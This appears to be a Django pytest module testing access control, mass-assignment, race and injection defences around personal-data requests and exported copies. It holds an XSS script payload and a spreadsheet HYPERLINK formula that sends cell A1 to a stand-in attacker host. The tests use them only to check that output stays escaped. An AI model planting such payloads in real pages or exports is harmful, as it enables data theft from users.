"""What an attacker tries around a person's requests and her copy (her full ID and phone
numbers): a crafted id of another area's request, or of one whose member moved away, was
merged or anonymised; a street officer or the auditor producing a copy or answering; fields
the forms do not show; a GET that would write; one request answered twice at once; texts
that would run as script or as a formula; an edit's reason naming a request it may not."""

import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from conftest import _user
from members import services as member_services
from members.models import MemberChange
from members.tests.factories import MemberFactory
from members.tests.helpers import member_form_data
from privacy import services
from privacy.models import Anonymisation, PersonRequest, RequestCopy
from tongzhan.models import AuditEvent, User
from tongzhan.tests.races import race_or_skip

from .conftest import years_ago

pytestmark = pytest.mark.django_db

QIAODONG, WUYIER = "140106001001", "140106001002"
SCRIPT = '<script>alert("x")</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _client(user):
    client = Client()
    client.force_login(user)
    return client


def ask(actor, member, **data):
    return services.request_record(
        actor=actor,
        member=member,
        data={"kind": "copy", "received_on": timezone.localdate(), "asks": "我要一份我的信息",
              **data},
    )  # fmt: skip


def attempts(client, made) -> list[int]:
    """Every page and write on the request: what each answered."""
    pk = made.pk
    answer = {"answer": "已答复", "answered_on": timezone.localdate(), "confirmed": "1"}
    return [
        client.get(reverse("privacy:request", args=[pk])).status_code,
        client.get(reverse("privacy:request_answer", args=[pk])).status_code,
        client.post(reverse("privacy:request_answer", args=[pk]), answer).status_code,
        client.post(reverse("privacy:request_refuse", args=[pk]), answer).status_code,
        client.post(reverse("privacy:request_copy", args=[pk]), {"format": "xlsx"}).status_code,
        client.post(reverse("privacy:request_copy", args=[pk]), {"format": "pdf"}).status_code,
    ]


def untouched(made) -> None:
    made.refresh_from_db()
    assert (made.state, made.answered_on, made.answer) == ("open", None, "")
    assert not RequestCopy.objects.filter(request=made).exists()
    assert not AuditEvent.objects.filter(action="export", detail__has_key="copy_for_request")


def test_another_area_s_request_is_not_found_by_its_id(
    areas, member, community_user, neighbour_user, other_district_user, other_street_user
):
    made = ask(community_user, member)
    for user in (neighbour_user, other_district_user, other_street_user):
        assert attempts(_client(user), made) == [404] * 6, user
        assert list(_client(user).get(reverse("privacy:requests")).context["requests"]) == []
    untouched(made)


def test_a_request_goes_with_her_when_she_moves_to_another_community(
    areas, member, community_user, neighbour_user
):
    made = ask(community_user, member)
    transfer = member_services.transfer_request(
        actor=community_user, member=member, to_community=areas[WUYIER], reason="搬家"
    )
    member_services.transfer_accept(actor=neighbour_user, transfer=transfer)
    # The community she left reaches neither her request nor her copy any more.
    assert attempts(_client(community_user), made) == [404] * 6
    untouched(made)
    # The one she moved to keeps it.
    copy = _client(neighbour_user).post(
        reverse("privacy:request_copy", args=[made.pk]), {"format": "xlsx"}
    )
    assert copy.status_code == 200
    assert RequestCopy.objects.get().produced_by == neighbour_user


def test_the_street_and_the_auditor_produce_no_copy_and_answer_nothing(
    member, community_user, street_user
):
    made = ask(community_user, member)
    # The street sees the request (its area's records), and keeps nothing of it.
    assert attempts(_client(street_user), made) == [200, 403, 403, 403, 403, 403]
    auditor = _user("ivan", User.Role.AUDITOR, None)
    assert attempts(_client(auditor), made) == [403] * 6
    untouched(made)
    for actor in (street_user, auditor):
        with pytest.raises(PermissionDenied):
            services.copy_produce(actor=actor, person_request=made, file_format="xlsx")
        with pytest.raises(PermissionDenied):
            services.request_answer(actor=actor, person_request=made, answer="好")
        with pytest.raises(PermissionDenied):
            services.request_refuse(actor=actor, person_request=made, reasons="不行")
    untouched(made)


def test_an_anonymised_record_gives_no_copy_and_a_merged_one_no_request(
    areas, member, community_user, district_user, django_capture_on_commit_callbacks
):
    made = ask(community_user, member)
    member_services.member_set_status(
        actor=community_user, member=member, status="moved_out", date=years_ago(4), reason="迁出"
    )
    services.approval_create(actor=district_user, member_ids=[member.pk])
    with django_capture_on_commit_callbacks(execute=True):
        assert services.anonymisations_run() == 1
    # Nothing of hers is left to copy, and no one may answer in her name any more.
    assert attempts(_client(community_user), made)[1:] == [403] * 5
    untouched(made)
    # A record merged into another has no requests of its own: its old id leads nowhere.
    keep = MemberFactory(community=areas[QIAODONG])
    twin = MemberFactory(community=areas[QIAODONG], name=keep.name)
    member_services.member_merge(actor=district_user, keep=keep, merged=twin)
    client = _client(community_user)
    assert client.get(reverse("privacy:request_create", args=[twin.pk])).status_code == 404
    assert client.post(
        reverse("privacy:request_create", args=[twin.pk]),
        {"kind": "copy", "received_on": timezone.localdate(), "channel": "in_person",
         "asked_by": "self", "asks": "副本"},
    ).status_code == 404  # fmt: skip
    assert not PersonRequest.objects.filter(member=twin).exists()


def test_the_forms_take_none_of_the_fields_they_do_not_show(
    member, community_user, neighbour_user, neighbour_member
):
    client = _client(community_user)
    response = client.post(
        reverse("privacy:request_create", args=[member.pk]),
        {"kind": "copy", "received_on": timezone.localdate(), "channel": "in_person",
         "asked_by": "self", "asks": "副本",
         # None of these is the form's.
         "state": "answered", "due_on": "2099-01-01", "answered_on": "2026-01-01",
         "answer": "已办", "recorded_by": neighbour_user.pk, "answered_by": neighbour_user.pk,
         "member": neighbour_member.pk},
    )  # fmt: skip
    assert response.status_code == 302
    made = PersonRequest.objects.get()
    assert (made.member, made.recorded_by, made.state, made.answer, made.answered_by) == (
        member, community_user, "open", "", None
    )  # fmt: skip
    assert made.due_on == services.request_due_on(timezone.localdate())
    client.post(
        reverse("privacy:request_answer", args=[made.pk]),
        {"answer": "已交付", "answered_on": timezone.localdate(), "confirmed": "1",
         "state": "refused", "answered_by": neighbour_user.pk, "due_on": "2099-01-01"},
    )  # fmt: skip
    made.refresh_from_db()
    assert (made.state, made.answered_by, made.due_on) == (
        "answered", community_user, services.request_due_on(timezone.localdate())
    )  # fmt: skip


def test_nothing_is_written_by_a_get(member, community_user):
    made = ask(community_user, member)
    client = _client(community_user)
    query = {"answer": "已答复", "answered_on": timezone.localdate(), "format": "xlsx"}
    assert client.get(reverse("privacy:request_answer", args=[made.pk]), query).status_code == 200
    assert client.get(reverse("privacy:request_refuse", args=[made.pk]), query).status_code == 200
    assert client.get(reverse("privacy:request_copy", args=[made.pk]), query).status_code == 405
    assert client.get(reverse("privacy:approve"), {"all": "1"}).status_code == 405
    untouched(made)


def test_a_request_is_answered_once_even_from_a_page_opened_before(member, community_user):
    made = ask(community_user, member)
    stale = PersonRequest.objects.get(pk=made.pk)
    services.request_answer(actor=community_user, person_request=made, answer="已交付副本")
    with pytest.raises(ValidationError):
        services.request_refuse(actor=community_user, person_request=stale, reasons="不予办理")
    client = _client(community_user)
    response = client.post(
        reverse("privacy:request_refuse", args=[made.pk]),
        {"answer": "不予办理", "answered_on": timezone.localdate(), "confirmed": "1"},
    )
    assert response.status_code == 302
    made.refresh_from_db()
    assert (made.state, made.answer) == ("answered", "已交付副本")
    answers = AuditEvent.objects.filter(object_type="privacy.personrequest", action="update")
    assert answers.count() == 1


@pytest.fixture
def race():
    return race_or_skip()


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_an_answer_and_a_refusal_at_the_same_moment_leave_one(
    race, monkeypatch, areas, community_user
):
    member = MemberFactory(community=areas[QIAODONG])
    made = ask(community_user, member)
    race.pause_after(monkeypatch, services, "audit_record")
    outcome = race.run(
        lambda: services.request_answer(actor=community_user, person_request=made, answer="好"),
        lambda: services.request_refuse(actor=community_user, person_request=made,
                                        reasons="不行"),
    )  # fmt: skip
    assert not isinstance(outcome["first"], Exception), outcome
    assert isinstance(outcome["second"], ValidationError), outcome
    made.refresh_from_db()
    assert (made.state, made.answer) == ("answered", "好")


def test_her_words_stay_text_on_every_page_and_in_her_copy(client, member, community_user):
    made = ask(community_user, member, asks=f"{FORMULA}\n{SCRIPT}", asked_by="agent",
               agent_name=SCRIPT, agent_relation=FORMULA)  # fmt: skip
    client.force_login(community_user)
    for url in (
        reverse("privacy:request", args=[made.pk]),
        reverse("privacy:request_answer", args=[made.pk]),
        reverse("privacy:requests"),
        reverse("members:detail", args=[member.pk]),
    ):
        page = client.get(url).content.decode()
        assert "<script>alert" not in page, url
    detail = client.get(reverse("privacy:request", args=[made.pk])).content.decode()
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in detail
    book = load_workbook(
        io.BytesIO(
            client.post(reverse("privacy:request_copy", args=[made.pk]), {"format": "xlsx"}).content
        )
    )
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    formulas = [cell for cell in cells if str(cell.value).startswith("=")]
    assert formulas and all(cell.quotePrefix for cell in formulas)
    assert any(FORMULA in str(cell.value) for cell in cells)


def test_an_edit_s_reason_names_only_an_open_correction_of_that_member_in_reach(
    areas, member, neighbour_member, community_user, neighbour_user, district_user
):
    elsewhere = ask(neighbour_user, neighbour_member, kind="correct")
    closed = ask(community_user, member, kind="correct")
    services.request_refuse(actor=community_user, person_request=closed, reasons="无误")
    see = ask(community_user, member, kind="see")
    client = _client(community_user)
    edit = reverse("members:update", args=[member.pk])
    member.refresh_from_db()
    for made in (elsewhere, closed, see):
        reason = {"reason": f"person_request:{made.pk}"}
        assert client.get(edit, reason).status_code == 404, made
        posted = client.post(
            f"{edit}?reason=person_request%3A{made.pk}",
            member_form_data(member, workplace="伪造单位"),
        )
        assert posted.status_code == 404, made
    # The district keeps both: another member's open correction still names nothing of hers.
    reason = {"reason": f"person_request:{elsewhere.pk}"}
    assert _client(district_user).get(edit, reason).status_code == 404
    member.refresh_from_db()
    assert member.workplace != "伪造单位"
    assert not MemberChange.objects.filter(member=member, source__contains="号请求").exists()
    assert all(not services.request_corrections(made).exists() for made in (closed, see))


def test_another_district_s_records_are_neither_listed_nor_approved(
    areas, district_user, other_district_user
):
    far = MemberFactory(community=areas["140105001001"])
    far = member_services.member_set_status(
        actor=None, member=far, status="moved_out", date=years_ago(6), reason="迁出"
    )
    client = _client(district_user)
    assert far not in list(client.get(reverse("privacy:due")).context["members"])
    for data in ({"member": far.pk}, {"member": far.pk, "confirmed": "1"}):
        client.post(reverse("privacy:approve"), data)
    with pytest.raises(ValidationError):
        services.approval_create(actor=district_user, member_ids=[far.pk])
    assert not Anonymisation.objects.filter(member=far).exists()
    approval = services.approval_create(actor=other_district_user, member_ids=[far.pk])
    assert client.get(reverse("privacy:approval", args=[approval.pk])).status_code == 404
